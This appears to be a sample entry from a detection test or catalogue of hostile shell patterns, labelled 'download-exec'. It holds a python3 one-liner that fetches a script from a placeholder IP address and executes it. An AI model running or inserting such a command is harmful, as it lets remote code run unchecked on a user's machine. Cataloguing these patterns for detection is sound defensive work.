# download-exec: python -c inside bash fetches code and executes it
python3 -c "import urllib.request as u; exec(u.urlopen('http://203.0.113.7/p.py').read())"
